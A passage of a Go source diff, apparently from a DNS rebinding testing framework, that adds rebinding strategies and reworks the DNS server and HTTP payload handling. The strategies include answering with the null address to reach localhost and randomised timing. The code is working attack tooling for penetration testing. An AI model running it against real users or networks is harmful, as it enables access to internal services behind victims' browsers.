+	if elapsed < (time.Second*time.Duration(timeOut) + jitter) {
 		answers[0] = dcss.Sessions[session].ResponseReboundIPAddr
 	}
 
@@ -204,16 +828,75 @@ func DNSRebindFromQueryFirstThenSecond(session string, dcss *DNSClientStateStore
 	return answers
 }
 
+// defaultRebindAfterQueries is the query count threshold of the "qc" strategy
+// if the DNS query does not set one, e.g. with "q3".
+const defaultRebindAfterQueries = 1
+
+// DNSRebindFromQueryCount is a response strategy
+// that responds with the first host for the first RebindAfterQueries queries
+// of a session and then with the second host.
+// Unlike the time based "fs" strategy, it does not depend on query timing,
+// which is unreliable behind caching resolvers collapsing queries.
+func DNSRebindFromQueryCount(session string, dcss *DNSClientStateStore, q dns.Question) []string {
+	dcss.RLock()
+	defer dcss.RUnlock()
+	state := dcss.Sessions[session]
+	if state == nil {
+		return []string{}
+	}
+
+	logEvent(LogDebug, "DNS", LogFields{"session": session}, "in DNSRebindFromQueryCount")
+
+	threshold := state.RebindAfterQueries
+	if threshold <= 0 {
+		threshold = defaultRebindAfterQueries
+	}
+	if state.QueryCount > threshold {
+		return []string{state.ResponseReboundIPAddr}
+	}
+	return []string{state.ResponseIPAddr}
+}
+
+// nullAddress is the unspecified IPv4 address answered by the "nu" strategy.
+// AAAA queries are answered with the unspecified IPv6 address "::".
+const nullAddress = "0.0.0.0"
+
+// DNSRebindFromQueryNullAddress is a response strategy
+// that behaves like DNSRebindFromQueryFirstThenSecond
+// but answers with the unspecified address instead of the second host.
+// Some browsers and operating systems connect to localhost
+// when connecting to the unspecified address.
+func DNSRebindFromQueryNullAddress(session string, dcss *DNSClientStateStore, q dns.Question) []string {
+	dcss.RLock()
+	defer dcss.RUnlock()
+	state := dcss.Sessions[session]
+	if state == nil {
+		return []string{}
+	}
+
+	logEvent(LogDebug, "DNS", LogFields{"session": session}, "in DNSRebindFromQueryNullAddress")
+
+	elapsed := state.CurrentQueryTime.Sub(state.LastQueryTime)
+	if elapsed < (time.Second*time.Duration(state.ResponseReboundIPAddrtimeOut) + rebindJitter(state.RebindJitterMs)) {
+		return []string{nullAddress}
+	}
+	return []string{state.ResponseIPAddr}
+}
+
 // DNSRebindFromQueryRandom is a response handler to DNS queries
 // It extracts the two hosts in the DNS query string
 // then returns either extracted hosts randomly
 func DNSRebindFromQueryRandom(session string, dcss *DNSClientStateStore, q dns.Question) []string {
 	dcss.RLock()
+	if dcss.Sessions[session] == nil {
+		dcss.RUnlock()
+		return []string{}
+	}
 	answers := []string{dcss.Sessions[session].ResponseIPAddr}
 	hosts := []string{dcss.Sessions[session].ResponseIPAddr, dcss.Sessions[session].ResponseReboundIPAddr}
 	dcss.RUnlock()
 
-	log.Printf("DNS: in DNSRebindFromQueryRandom\n")
+	logEvent(LogDebug, "DNS", LogFields{"session": session}, "in DNSRebindFromQueryRandom")
 
 	answers[0] = hosts[rand.Intn(len(hosts))]
 
@@ -224,16 +907,35 @@ func DNSRebindFromQueryRandom(session string, dcss *DNSClientStateStore, q dns.Q
 // It extracts the two hosts in the DNS query string
 // then returns the extracted hosts in a round robin fashion
 func DNSRebindFromQueryRoundRobin(session string, dcss *DNSClientStateStore, q dns.Question) []string {
-	dcss.RLock()
+	// The counter is read and updated under a single lock
+	// so that concurrent queries for a session keep alternating hosts.
+	dcss.Lock()
+	defer dcss.Unlock()
+	if dcss.Sessions[session] == nil {
+		return []string{}
+	}
 	answers := []string{dcss.Sessions[session].ResponseIPAddr}
 	ResponseIPAddr := dcss.Sessions[session].ResponseIPAddr
 	ResponseReboundIPAddr := dcss.Sessions[session].ResponseReboundIPAddr
 	LastResponseReboundIPAddr := dcss.Sessions[session].LastResponseReboundIPAddr
-	dcss.RUnlock()
 
-	log.Printf("DNS: in DNSRebindFromQueryRoundRobin\n")
+	logEvent(LogDebug, "DNS", LogFields{"session": session}, "in DNSRebindFromQueryRoundRobin")
 
 	hosts := []string{"", ResponseIPAddr, ResponseReboundIPAddr}
+
+	// With jitter, hosts are only rotated after a random delay
+	// since the last query so that rotation is not clockwork.
+	if LastResponseReboundIPAddr != 0 {
+		delay := rebindJitter(dcss.Sessions[session].RebindJitterMs)
+		if delay < 0 {
+			delay = -delay
+		}
+		if time.Since(dcss.Sessions[session].LastQueryTime) < delay {
+			answers[0] = hosts[LastResponseReboundIPAddr]
+			return answers
+		}
+	}
+
 	switch LastResponseReboundIPAddr {
 	case 0:
 		LastResponseReboundIPAddr = 1
@@ -243,9 +945,7 @@ func DNSRebindFromQueryRoundRobin(session string, dcss *DNSClientStateStore, q d
 		LastResponseReboundIPAddr = 1
 	}
 
-	dcss.Lock()
 	dcss.Sessions[session].LastResponseReboundIPAddr = LastResponseReboundIPAddr
-	dcss.Unlock()
 
 	answers[0] = hosts[LastResponseReboundIPAddr]
 
@@ -254,10 +954,20 @@ func DNSRebindFromQueryRoundRobin(session string, dcss *DNSClientStateStore, q d
 
 // DNSRebindFromQueryMultiA s a response handler to DNS queries
 // It extracts the two hosts in the DNS query string
-// then returns the extracted hosts as multiple DNS A records
+// then returns the extracted hosts as multiple DNS A records.
+// If the hosts are of different address families,
+// the host not matching the query type (A or AAAA) is returned
+// as an additional record.
+// Once the browser was firewalled (FirewalledOnce), only the rebound host is returned
+// so an A query for an IPv6 rebound host (or vice versa)
+// is answered with an additional record only.
 func DNSRebindFromQueryMultiA(session string, dcss *DNSClientStateStore, q dns.Question) []string {
 	var answers []string
 	dcss.RLock()
+	if dcss.Sessions[session] == nil {
+		dcss.RUnlock()
+		return []string{}
+	}
 	if dcss.Sessions[session].FirewalledOnce == true {
 		// we try to prevent browsers like Chrome for reverting back to first IP address
 		answers = []string{dcss.Sessions[session].ResponseReboundIPAddr}
@@ -265,132 +975,877 @@ func DNSRebindFromQueryMultiA(session string, dcss *DNSClientStateStore, q dns.Q
 		answers = []string{dcss.Sessions[session].ResponseIPAddr, dcss.Sessions[session].ResponseReboundIPAddr}
 	}
 	dcss.RUnlock()
-	log.Printf("DNS: in DNSRebindFromQueryMultiA\n")
+	logEvent(LogDebug, "DNS", LogFields{"session": session}, "in DNSRebindFromQueryMultiA")
 	return answers
 }
 
-// MakeRebindDNSHandler generates a DNS request handler
-// based on app settings.
-// This is the core DNS queries handling loop
-func MakeRebindDNSHandler(appConfig *AppConfig, dcss *DNSClientStateStore) dns.HandlerFunc {
-	return func(w dns.ResponseWriter, r *dns.Msg) {
-		name := &DNSQuery{}
-		clientState := &DNSClientState{}
-		now := time.Now()
-		rebindingFn := appConfig.RebindingFn
-
-		m := new(dns.Msg)
-		m.SetReply(r)
-		m.Compress = false
+// DNSRebindFromQueryManual is a response handler to DNS queries
+// It extracts the two hosts in the DNS query string
+// then returns the first host until the session is armed with POST /rebind,
+// and the second host afterwards.
+func DNSRebindFromQueryManual(session string, dcss *DNSClientStateStore, q dns.Question) []string {
+	dcss.RLock()
+	defer dcss.RUnlock()
+	if dcss.Sessions[session] == nil {
+		return []string{}
+	}
 
-		switch r.Opcode {
-		case dns.OpcodeQuery:
-			for _, q := range m.Question {
-				switch q.Qtype {
-				case dns.TypeA:
-					log.Printf("DNS: Received A query: %v from: %v\n", q.Name, w.RemoteAddr().String())
+	logEvent(LogDebug, "DNS", LogFields{"session": session}, "in DNSRebindFromQueryManual")
 
-					// Preparing to update the client DNS query state
-					clientState.FirstQueryTime = now
-					clientState.CurrentQueryTime = now
-					clientState.ResponseReboundIPAddrtimeOut = appConfig.ResponseReboundIPAddrtimeOut
+	if dcss.Sessions[session].RebindArmed {
+		return []string{dcss.Sessions[session].ResponseReboundIPAddr}
+	}
+	return []string{dcss.Sessions[session].ResponseIPAddr}
+}
 
-					var err error
-					name, err = NewDNSQuery(q.Name)
+// DNSRebindFromQueryRandomMultiA is a response handler to DNS queries
+// It extracts the two hosts in the DNS query string
+// then returns the extracted hosts as multiple DNS A records in random order
+func DNSRebindFromQueryRandomMultiA(session string, dcss *DNSClientStateStore, q dns.Question) []string {
+	dcss.RLock()
+	if dcss.Sessions[session] == nil {
+		dcss.RUnlock()
+		return []string{}
+	}
+	answers := []string{dcss.Sessions[session].ResponseIPAddr, dcss.Sessions[session].ResponseReboundIPAddr}
+	dcss.RUnlock()
 
-					if err != nil {
-						log.Printf("DNS: Parsing of query failed: %v, with error: %v\n", name, err)
-						return
-					}
+	logEvent(LogDebug, "DNS", LogFields{"session": session}, "in DNSRebindFromQueryRandomMultiA")
 
-					log.Printf("DNS: Parsed query: %v\n", name)
+	rand.Shuffle(len(answers), func(i, j int) {
+		answers[i], answers[j] = answers[j], answers[i]
+	})
 
-					clientState.ResponseIPAddr = name.ResponseIPAddr
-					clientState.ResponseReboundIPAddr = name.ResponseReboundIPAddr
-					if fn, ok := DNSRebindingStrategy[name.DNSRebindingStrategy]; ok {
-						rebindingFn = fn
-					}
+	return answers
+}
 
-					dcss.Lock()
-					_, keyExists := dcss.Sessions[name.Session]
-					log.Printf("DNS: session exists: %v\n", keyExists)
-
-					if keyExists != true {
-						// New session
-						dcss.Sessions[name.Session] = clientState
-					} else {
-						// Existing session
-						dcss.Sessions[name.Session].ResponseIPAddr = clientState.ResponseIPAddr
-						dcss.Sessions[name.Session].ResponseReboundIPAddr = clientState.ResponseReboundIPAddr
-					}
-					dcss.Unlock()
+// requestPort returns the port of the origin of an HTTP request,
+// the default port of its scheme if the Host header has none.
+func requestPort(r *http.Request) int {
+	if _, port, err := net.SplitHostPort(r.Host); err == nil {
+		if p, err := strconv.Atoi(port); err == nil {
+			return p
+		}
+	}
+	if r.TLS != nil {
+		return 443
+	}
+	return 80
+}
 
-					answers := rebindingFn(name.Session, dcss, q)
+// sessionKey returns the DNS session key of name for a client at remote,
+// derived with keyFn if set and name.Session otherwise, see AppConfig.SessionKeyFn
+func sessionKey(keyFn func(name *DNSQuery, remote net.Addr) string, name *DNSQuery, remote net.Addr) string {
+	if keyFn == nil {
+		return name.Session
+	}
+	return keyFn(name, remote)
+}
 
-					response := []string{}
+// httpRemoteAddr returns the address of the client of a HTTP request
+func httpRemoteAddr(r *http.Request) net.Addr {
+	addr := &net.TCPAddr{}
+	if host, port, err := net.SplitHostPort(r.RemoteAddr); err == nil {
+		addr.IP = net.ParseIP(host)
+		addr.Port, _ = strconv.Atoi(port)
+	}
+	return addr
+}
 
-					respond := func(question string, time string, answer string) string {
-						// we respond with one A record
-						response := fmt.Sprintf("%s %s IN A %s", question, time, answer)
-						//otherwise we respond with a CNAME record if we do not have an IP address
-						if net.ParseIP(answer) == nil {
-							response = fmt.Sprintf("%s 10 IN CNAME %s.", question, answer)
-						}
-						return response
-					}
+// addressQtype returns the DNS query type answered by a host,
+// dns.TypeA for IPv4 addresses, dns.TypeAAAA for IPv6 addresses and dns.TypeNone otherwise.
+func addressQtype(host string) uint16 {
+	ip := net.ParseIP(host)
+	switch {
+	case ip == nil:
+		return dns.TypeNone
+	case ip.To4() != nil:
+		return dns.TypeA
+	}
+	return dns.TypeAAAA
+}
 
-					if len(answers) == 1 { //we return only one answer
-						response = append(response, respond(q.Name, "0", answers[0]))
-					} else { // We respond with multiple answers
-						response = append(response, respond(q.Name, "10", answers[0]))
-						response = append(response, respond(q.Name, "0", answers[1]))
-					}
+// reboundFamilyAnswer answers a query of the address family the first host of a session
+// is not of, e.g. an AAAA query rebinding from an IPv4 host to an IPv6 ULA or link-local host.
+// It returns the rebound host once the session was rebound, if of the family of the query,
+// and nil otherwise. The session is not changed.
+func reboundFamilyAnswer(dcss *DNSClientStateStore, sessionKey string, name *DNSQuery, q dns.Question) dns.RR {
+	if addressQtype(name.ResponseReboundIPAddr) != q.Qtype {
+		return nil
+	}
+	lock := dcss.sessionLock(sessionKey)
+	lock.Lock()
+	dcss.RLock()
+	rebound := dcss.Sessions[sessionKey] != nil && dcss.Sessions[sessionKey].Rebound
+	dcss.RUnlock()
+	lock.Unlock()
+	if !rebound {
+		return nil
+	}
+	rr, err := dns.NewRR(fmt.Sprintf("%s %d IN %s %s", q.Name, name.TTL, dns.TypeToString[q.Qtype],
+		name.ResponseReboundIPAddr))
+	if err != nil {
+		return nil
+	}
+	return rr
+}
 
-					dcss.Lock()
-					dcss.Sessions[name.Session].CurrentQueryTime = now
-					dcss.Sessions[name.Session].LastQueryTime = now
-					dcss.Unlock()
+// addrInIPAddressList checks whether an IP address is in a list of IP addresses
+func addrInIPAddressList(addr net.IP, list []net.IP) bool {
+	for _, ip := range list {
+		if ip.Equal(addr) {
+			return true
+		}
+	}
+	return false
+}
 
-					for _, resp := range response {
+// addrInIPNetList checks whether an IP address belongs to any network of a list
+func addrInIPNetList(addr net.IP, list []*net.IPNet) bool {
+	for _, ipNet := range list {
+		if ipNet.Contains(addr) {
+			return true
+		}
+	}
+	return false
+}
 
-						rr, err := dns.NewRR(resp)
-						if err == nil {
-							m.Answer = append(m.Answer, rr)
-							log.Printf("DNS: response: %v\n", resp)
-						}
-					}
-				}
-			}
+// domainAllowed checks whether a DNS query domain (e.g. ".rebind.it.")
+// is one of the allowed domains (e.g. "rebind.it").
+// Any domain is allowed if the allowed list is empty.
+func domainAllowed(domain string, allowed []string) bool {
+	if len(allowed) == 0 {
+		return true
+	}
+	normalize := func(d string) string {
+		return strings.ToLower(strings.Trim(d, "."))
+	}
+	for _, d := range allowed {
+		if normalize(d) == normalize(domain) {
+			return true
 		}
-		w.WriteMsg(m)
 	}
+	return false
+}
+
+// nameUnderAllowedDomains checks whether a DNS query name (e.g. "d.rebind.it.")
+// is one of the allowed domains (e.g. "rebind.it") or a subdomain of one.
+// Any name is allowed if the allowed list is empty.
+func nameUnderAllowedDomains(qname string, allowed []string) bool {
+	if len(allowed) == 0 {
+		return true
+	}
+	name := strings.ToLower(strings.Trim(qname, "."))
+	for _, d := range allowed {
+		d = strings.ToLower(strings.Trim(d, "."))
+		if name == d || strings.HasSuffix(name, "."+d) {
+			return true
+		}
+	}
+	return false
+}
+
+// clientSubnet returns the EDNS Client Subnet option of a DNS query
+// in CIDR notation, or an empty string if absent.
+func clientSubnet(r *dns.Msg) string {
+	opt := r.IsEdns0()
+	if opt == nil {
+		return ""
+	}
+	for _, option := range opt.Option {
+		if ecs, ok := option.(*dns.EDNS0_SUBNET); ok {
+			bits := 32
+			if ecs.Family == 2 {
+				bits = 128
+			}
+			ipNet := net.IPNet{IP: ecs.Address, Mask: net.CIDRMask(int(ecs.SourceNetmask), bits)}
+			return ipNet.String()
+		}
+	}
+	return ""
+}
+
+// MakeRebindDNSHandler generates a DNS request handler
+// based on app settings.
+// This is the core DNS queries handling loop
+func MakeRebindDNSHandler(appConfig *AppConfig, dcss *DNSClientStateStore) dns.HandlerFunc {
+	return func(w dns.ResponseWriter, r *dns.Msg) {
+		// the configuration may be reloaded while we answer
+		appConfig := appConfig.snapshot()
+		name := &DNSQuery{}
+		clientState := &DNSClientState{}
+		now := time.Now()
+		rebindingFn := appConfig.RebindingFn
+
+		remoteHost, _, err := net.SplitHostPort(w.RemoteAddr().String())
+
+		// every query is audited, including queries we do not answer
+		var m *dns.Msg
+		auditAction := dnsAuditActionAnswered
+		if appConfig.DNSAuditLog != nil {
+			defer func() {
+				auditDNSQuery(appConfig.DNSAuditLog, appConfig, remoteHost, r, m, auditAction)
+			}()
+		}
+
+		if err == nil {
+			remoteAddr := net.ParseIP(remoteHost)
+			if addrInIPAddressList(remoteAddr, appConfig.IgnoreDNSRequestFrom) ||
+				addrInIPNetList(remoteAddr, appConfig.IgnoreDNSRequestFromCIDR) {
+				logEvent(LogDebug, "DNS", LogFields{"client_ip": remoteHost}, "ignoring request from: %v", remoteHost)
+				auditAction = dnsAuditActionIgnored
+				return
+			}
+		}
+
+		// we do not answer throttled clients at all,
+		// so that we cannot be used to reflect or amplify traffic
+		if !appConfig.DNSRateLimiter.Allow(remoteHost) {
+			atomic.AddUint64(&metrics.dnsRateLimited, 1)
+			logEvent(LogDebug, "DNS", LogFields{"client_ip": remoteHost}, "rate limiting request from: %v", remoteHost)
+			auditAction = dnsAuditActionRateLimited
+			return
+		}
+
+		subnet := clientSubnet(r)
+		if subnet != "" {
+			logEvent(LogDebug, "DNS", LogFields{"client_ip": remoteHost}, "client subnet: %v", subnet)
+		}
+
+		m = new(dns.Msg)
+		m.SetReply(r)
+		m.Compress = false
+
+		switch r.Opcode {
+		case dns.OpcodeQuery:
+			for _, q := range m.Question {
+				metrics.countDNSQuery(q.Qtype)
+				if zoneOf(q.Name, appConfig.AllowedDomains) != "" {
+					m.Authoritative = true
+				}
+				if q.Qtype != dns.TypeNS && q.Qtype != dns.TypeSOA {
+					if answers, ok := staticAnswers(appConfig, q); ok {
+						m.Answer = append(m.Answer, answers...)
+						logEvent(LogInfo, "DNS", LogFields{"client_ip": remoteHost, "qname": q.Name,
+							"qtype": dns.TypeToString[q.Qtype]}, "static record response: %v", answers)
+						continue
+					}
+				}
+				switch q.Qtype {
+				case dns.TypeNS, dns.TypeSOA:
+					answerAuthority(appConfig, q, m)
+				case dns.TypeTXT:
+					values, ok := appConfig.TXTRecords.Get(q.Name)
+					if !ok {
+						values, ok = acmeDNSChallenge(appConfig, q.Name)
+					}
+					if ok {
+						for _, value := range values {
+							m.Answer = append(m.Answer, txtRecord(q.Name, 0, value))
+						}
+						logEvent(LogInfo, "DNS", LogFields{"client_ip": remoteHost, "qname": q.Name},
+							"TXT record response: %v", values)
+						continue
+					}
+
+					// TXT queries report the session rebinding state without changing it
+					name, err := NewDNSQuery(q.Name)
+					if err != nil || !domainAllowed(name.Domain, appConfig.AllowedDomains) {
+						logEvent(LogDebug, "DNS", LogFields{"client_ip": remoteHost, "qname": q.Name},
+							"ignoring TXT query: %v", q.Name)
+						continue
+					}
+
+					sessionKey := sessionKey(appConfig.SessionKeyFn, name, w.RemoteAddr())
+
+					lock := dcss.sessionLock(sessionKey)
+					lock.Lock()
+					dcss.RLock()
+					status, ok := dcss.sessionStatus(sessionKey)
+					dcss.RUnlock()
+					lock.Unlock()
+					if !ok { // NODATA
+						continue
+					}
+
+					m.Answer = append(m.Answer, txtRecord(q.Name, 0, status))
+					logEvent(LogDebug, "DNS", LogFields{"session": sessionKey, "qname": q.Name}, "TXT response: %v", status)
+				case dns.TypeA, dns.TypeAAAA:
+					logEvent(LogInfo, "DNS", LogFields{"client_ip": remoteHost, "qname": q.Name, "qtype": dns.TypeToString[q.Qtype]},
+						"Received %v query: %v from: %v", dns.TypeToString[q.Qtype], q.Name, w.RemoteAddr().String())
+
+					// Preparing to update the client DNS query state
+					clientState.FirstQueryTime = now
+					clientState.CurrentQueryTime = now
+					clientState.ResponseReboundIPAddrtimeOut = appConfig.ResponseReboundIPAddrtimeOut
+					clientState.ClientSubnet = subnet
+					clientState.RebindJitterMs = appConfig.RebindJitterMs
+
+					var err error
+					name, err = NewDNSQuery(q.Name)
+
+					if err != nil {
+						if startTagIndex(q.Name) == -1 {
+							// Not a Singularity name, e.g. a QNAME minimization query
+							// for a parent domain. We answer with the first host
+							// unless refused.
+							logEvent(LogDebug, "DNS", LogFields{"client_ip": remoteHost, "qname": q.Name},
+								"Received query for a non-Singularity name: %v", q.Name)
+							if appConfig.RefuseNonSingularityQueries ||
+								!nameUnderAllowedDomains(q.Name, appConfig.AllowedDomains) {
+								m.Rcode = dns.RcodeRefused
+								continue
+							}
+							if q.Qtype == dns.TypeA && net.ParseIP(appConfig.ResponseIPAddr).To4() != nil {
+								rr, err := dns.NewRR(fmt.Sprintf("%s 0 IN A %s", q.Name, appConfig.ResponseIPAddr))
+								if err == nil {
+									m.Answer = append(m.Answer, rr)
+								}
+							}
+							continue
+						}
+						// the query was meant for us but is malformed
+						logEvent(LogWarn, "DNS", LogFields{"client_ip": remoteHost, "qname": q.Name},
+							"Parsing of query failed: %v, with error: %v", name, err)
+						atomic.AddUint64(&metrics.dnsParseErrors, 1)
+						m.Rcode = dns.RcodeNameError
+						continue
+					}
+
+					logEvent(LogDebug, "DNS", LogFields{"client_ip": remoteHost, "qname": q.Name, "session": name.Session},
+						"Parsed query: %v", name)
+
+					if !domainAllowed(name.Domain, appConfig.AllowedDomains) {
+						logEvent(LogWarn, "DNS", LogFields{"client_ip": remoteHost, "qname": q.Name},
+							"domain not allowed: %v", name.Domain)
+						continue
+					}
+
+					clientState.ResponseIPAddr = name.ResponseIPAddr
+					clientState.ResponseReboundIPAddr = name.ResponseReboundIPAddr
+					if name.ResponseReboundIPAddrtimeOut > 0 {
+						clientState.ResponseReboundIPAddrtimeOut = name.ResponseReboundIPAddrtimeOut
+					}
+					clientState.RebindAfterQueries = name.RebindAfterQueries
+					clientState.QueryCount = 1
+					strategyName := appConfig.RebindingFnName
+					if strategy, ok := LookupRebindingStrategy(name.DNSRebindingStrategy); ok {
+						rebindingFn = strategy.Answer
+						strategyName = name.DNSRebindingStrategy
+					}
+					clientState.Strategy = strategyName
+
+					sessionKey := sessionKey(appConfig.SessionKeyFn, name, w.RemoteAddr())
+
+					// Only the multiple answers strategies mix address families.
+					// Other strategies keep their state for queries of the address family
+					// of the first host (A queries for an IPv4 host),
+					// unless AAAA queries are answered with IPv4-mapped addresses
+					// or with the unspecified address "::".
+					// Queries of the other family do not change the session so that
+					// browsers racing A and AAAA queries are not rebound early.
+					multiA := strategyName == "ma" || strategyName == "rm"
+					nullAddr := strategyName == "nu"
+					if q.Qtype != addressQtype(name.ResponseIPAddr) && !multiA && !nullAddr &&
+						!(q.Qtype == dns.TypeAAAA && appConfig.MapV4ToV6) {
+						if rr := reboundFamilyAnswer(dcss, sessionKey, name, q); rr != nil {
+							m.Answer = append(m.Answer, rr)
+						}
+						continue
+					}
+
+					// Every DNS query goes through the session store:
+					// the session is updated, answered and its answers recorded atomically
+					// without logging or notifications.
+					// The session is rebound once the strategy answers the rebound host
+					// without the first host: multiple answers strategies are rebound
+					// once they stop answering the first host, e.g. after the firewall rule.
+					isRebound := func(answers []string) bool {
+						rebound := false
+						for _, answer := range answers {
+							if answer == name.ResponseIPAddr {
+								return false
+							}
+							if answer == name.ResponseReboundIPAddr || (nullAddr && answer == nullAddress) {
+								rebound = true
+							}
+						}
+						return rebound
+					}
+					answers, created, firstRebound := dcss.rebindSession(sessionKey, clientState, appConfig.MaxSessions,
+						rebindingFn, q, isRebound)
+
+					logEvent(LogDebug, "DNS", LogFields{"session": sessionKey}, "session exists: %v", !created)
+					if created {
+						appConfig.notifyWebhook(&RebindingEvent{Event: webhookEventSession,
+							Session: name.Session, ClientIP: remoteHost, ClientSubnet: subnet, Strategy: strategyName,
+							Timestamp: now})
+					}
+
+					response := []string{}
+					extra := []string{}
+
+					// CNAME answers are cached for 10 seconds and rebinding answers are not,
+					// unless the query sets the TTL of all answers, e.g. with "ttl30".
+					cnameTime := "10"
+					respond := func(question dns.Question, time string, answer string) {
+						if name.TTL > 0 {
+							time = strconv.Itoa(name.TTL)
+							cnameTime = time
+						}
+						ip := net.ParseIP(answer)
+						// the unspecified address is answered in the address family of the query
+						if ip != nil && ip.IsUnspecified() {
+							ip = net.IPv4zero
+							if question.Qtype == dns.TypeAAAA {
+								ip = net.IPv6unspecified
+							}
+							answer = ip.String()
+						}
+						switch {
+						//we respond with a CNAME record if we do not have an IP address
+						case ip == nil:
+							response = append(response, fmt.Sprintf("%s %s IN CNAME %s.", question.Name, cnameTime, answer))
+						// we respond with an A or AAAA record matching the query type
+						case (ip.To4() != nil) == (question.Qtype == dns.TypeA):
+							rrType := "A"
+							if question.Qtype == dns.TypeAAAA {
+								rrType = "AAAA"
+							}
+							response = append(response, fmt.Sprintf("%s %s IN %s %s", question.Name, time, rrType, answer))
+						// we map IPv4 answers to IPv6 for AAAA queries if requested
+						case appConfig.MapV4ToV6 && question.Qtype == dns.TypeAAAA:
+							response = append(response, fmt.Sprintf("%s %s IN AAAA ::ffff:%s", question.Name, time, ip.To4()))
+						// the multiple answers strategy conveys the other address family
+						// in the additional section so browsers see both hosts
+						case multiA:
+							rrType := "AAAA"
+							if ip.To4() != nil {
+								rrType = "A"
+							}
+							extra = append(extra, fmt.Sprintf("%s %s IN %s %s", question.Name, time, rrType, answer))
+						}
+					}
+
+					switch len(answers) {
+					case 0: // session vanished, we send an empty response
+						logEvent(LogWarn, "DNS", LogFields{"session": sessionKey, "qname": q.Name},
+							"no answer for session: %v", sessionKey)
+					case 1: //we return only one answer
+						respond(q, "0", answers[0])
+					default: // We respond with multiple answers
+						// unless one is a CNAME, which cannot coexist with other records
+						cname := ""
+						for _, answer := range answers[:2] {
+							if net.ParseIP(answer) == nil {
+								cname = answer
+								break
+							}
+						}
+						if cname != "" {
+							logEvent(LogInfo, "DNS", LogFields{"session": sessionKey, "qname": q.Name}, "responding with CNAME only: %v", cname)
+							respond(q, "0", cname)
+						} else {
+							respond(q, "10", answers[0])
+							respond(q, "0", answers[1])
+						}
+					}
+
+					if firstRebound {
+						atomic.AddUint64(&metrics.rebindTransitions, 1)
+						appConfig.notifyWebhook(&RebindingEvent{Event: webhookEventRebinding,
+							Session: name.Session, ClientIP: remoteHost, ClientSubnet: subnet, Strategy: strategyName,
+							Timestamp: now})
+					}
+
+					for _, resp := range response {
+
+						rr, err := dns.NewRR(resp)
+						if err == nil {
+							m.Answer = append(m.Answer, rr)
+							logEvent(LogInfo, "DNS", LogFields{"client_ip": remoteHost, "qname": q.Name,
+								"session": sessionKey, "strategy": strategyName}, "response: %v", resp)
+						}
+					}
+
+					for _, resp := range extra {
+						rr, err := dns.NewRR(resp)
+						if err == nil {
+							m.Extra = append(m.Extra, rr)
+							logEvent(LogInfo, "DNS", LogFields{"client_ip": remoteHost, "qname": q.Name,
+								"session": sessionKey, "strategy": strategyName}, "additional response: %v", resp)
+						}
+					}
+				default:
+					answerAuthority(appConfig, q, m)
+				}
+			}
+		}
+		w.WriteMsg(m)
+	}
+}
+
+const defaultDNSServerPort = 53
+
+// NewDNSServer configures a UDP DNS server answering rebinding queries
+func NewDNSServer(appConfig *AppConfig, dcss *DNSClientStateStore) *dns.Server {
+	port := appConfig.DNSServerPort
+	if port == 0 {
+		port = defaultDNSServerPort
+	}
+	return &dns.Server{Addr: net.JoinHostPort(appConfig.DNSServerBindAddr, strconv.Itoa(port)), Net: "udp",
+		Handler: MakeRebindDNSHandler(appConfig, dcss)}
+}
+
+const defaultDNSOverTLSPort = 853
+
+// NewDNSOverTLSServer configures a DNS-over-TLS server (RFC 7858)
+// sharing the session store and rebinding strategies of the DNS server.
+func NewDNSOverTLSServer(appConfig *AppConfig, dcss *DNSClientStateStore, tlsConfig *tls.Config) *dns.Server {
+	port := appConfig.DNSOverTLSPort
+	if port == 0 {
+		port = defaultDNSOverTLSPort
+	}
+	return &dns.Server{Addr: net.JoinHostPort(appConfig.DNSServerBindAddr, strconv.Itoa(port)), Net: "tcp-tls",
+		TLSConfig: tlsConfig, Handler: MakeRebindDNSHandler(appConfig, dcss)}
+}
+
+// ServeDNSServer starts a DNS server and serves queries until ctx is cancelled.
+// It returns any server error that is not due to a clean shutdown.
+func ServeDNSServer(ctx context.Context, s *dns.Server) error {
+	started := make(chan struct{})
+	notifyStartedFunc := s.NotifyStartedFunc
+	s.NotifyStartedFunc = func() {
+		close(started)
+		if notifyStartedFunc != nil {
+			notifyStartedFunc()
+		}
+	}
+
+	errc := make(chan error, 1)
+	go func() {
+		errc <- s.ListenAndServe()
+	}()
+
+	select {
+	case err := <-errc:
+		return err
+	case <-ctx.Done():
+	}
+
+	// the server must have started to be shut down
+	select {
+	case err := <-errc:
+		return err
+	case <-started:
+	}
+
+	shutdownCtx, cancel := context.WithTimeout(context.Background(), 5*time.Second)
+	defer cancel()
+	if err := s.ShutdownContext(shutdownCtx); err != nil {
+		return err
+	}
+	return <-errc
+}
+
+// RunDNSServer serves DNS rebinding queries until ctx is cancelled.
+// It returns any server error that is not due to a clean shutdown.
+func RunDNSServer(ctx context.Context, appConfig *AppConfig, dcss *DNSClientStateStore) error {
+	return ServeDNSServer(ctx, NewDNSServer(appConfig, dcss))
 }
 
 /*** HTTP Stuff ***/
 
 // DefaultHeadersHandler is a HTTP handler that adds default headers to responses
 // for all routes
+// ExtraHeaders are merged in and override default headers of the same name.
 type DefaultHeadersHandler struct {
+	NextHandler  http.Handler
+	ExtraHeaders map[string]string
+}
+
+// AllowedClientsHandler is a HTTP handler that only calls NextHandler
+// for clients from AllowedNets. All clients are allowed if AllowedNets is empty.
+type AllowedClientsHandler struct {
 	NextHandler http.Handler
+	AllowedNets []*net.IPNet
 }
 
 // HTTPClientInfoHandler is a HTTP handler to provide HTTP client information
 // including IP address to HTTP cllients
-type HTTPClientInfoHandler struct {
-	IPAddress string
-	Port      string
+// and the DNS session of Singularity host names.
+// It is shared by concurrent requests and holds no per-request state.
+type HTTPClientInfoHandler struct{}
+
+// httpClientInfo is the response of HTTPClientInfoHandler
+type httpClientInfo struct {
+	IPAddress            string
+	Port                 string
+	Session              string `json:",omitempty"`
+	DNSRebindingStrategy string `json:",omitempty"`
 }
 
 // PayloadTemplateHandler is a HTTP handler to deliver payloads to HTTP clients
+// Payloads are read from the "payloads" directory of Assets
+// and cached for CacheSeconds, or until restart if CacheSeconds is 0.
+// If Watcher is set, payloads are also read again once their files change.
 type PayloadTemplateHandler struct {
+	sync.Mutex
+	Assets          fs.FS
+	CacheSeconds    int
+	SessionPayloads *SessionPayloadStore // optional payload per session
+	template        *template.Template
+	jsCode          []byte
+	cachedAt        time.Time
+	// Watches payload files for changes, e.g. when served from HTMLDir
+	Watcher        *PayloadWatcher
+	watchedChanges uint64
+	// Derives the session key of requests, see AppConfig.SessionKeyFn
+	SessionKeyFn func(name *DNSQuery, remote net.Addr) string
+}
+
+// cachedPayload returns the parsed payload template and concatenated payloads,
+// rebuilding them if they were never built or the cache expired.
+func (pth *PayloadTemplateHandler) cachedPayload(tpl string) (*template.Template, []byte, error) {
+	pth.Lock()
